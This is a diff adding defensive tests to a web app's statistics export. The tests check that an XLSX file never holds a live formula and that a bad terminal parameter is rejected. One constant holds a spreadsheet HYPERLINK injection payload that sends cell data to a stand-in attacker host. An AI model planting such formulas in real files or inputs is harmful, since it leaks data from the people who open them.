@@ -344,3 +344,43 @@ def test_the_page_reports_a_bad_range(client, world, seeded):
     assert garbled.status_code == 422 and "YYYY-MM-DD" in garbled.text
     default = client.get("/clearance/statistics")  # this year so far
     assert default.status_code == 200 and 'id="stats-total"' in default.text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_the_xlsx_never_holds_a_live_formula(client, world, seeded, session):
+    """``statistics.xlsx?terminal==HYPERLINK(...)`` wrote a live formula (issue #10), and a
+    terminal stored with such a name would too: every text cell is neutralised."""
+    calls = session.query(PortCall).filter(PortCall.terminal == "CONT").all()
+    for call in calls:
+        call.terminal = "-CONT"
+    session.commit()
+    client.cookies.set("bastion_lang", "en")
+    response = client.get("/api/v1/clearance/statistics.xlsx",
+                          params={**RANGE, "terminal": FORMULA + "\x01"},
+                          headers=api_token(client, "a.super"))
+    assert response.status_code == 200, response.text
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for ws in book for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + FORMULA in texts
+    both = client.get("/api/v1/clearance/statistics.xlsx", params=RANGE,
+                      headers=api_token(client, "a.super"))
+    labels = [r[0] for r in _rows(load_workbook(io.BytesIO(both.content))["By terminal"])]
+    assert "'-CONT" in labels
+
+
+def test_the_page_carries_no_unknown_terminal_into_its_export_link(client, world, seeded):
+    login(client, "a.admin")
+    client.cookies.set("bastion_lang", "en")
+    response = client.get("/clearance/statistics", params={**RANGE, "terminal": FORMULA})
+    assert response.status_code == 422
+    assert 'id="error-terminal"' in response.text
+    assert "statistics.xlsx" not in response.text and "HYPERLINK" not in response.text.split(
+        "<main")[-1].split('name="terminal"')[0]
+    known = client.get("/clearance/statistics", params={**RANGE, "terminal": "COAL"})
+    assert known.status_code == 200
+    assert "/api/v1/clearance/statistics.xlsx?start=2026-01-01&amp;end=2026-06-30" \
+        "&amp;period=month&amp;terminal=COAL" in known.text
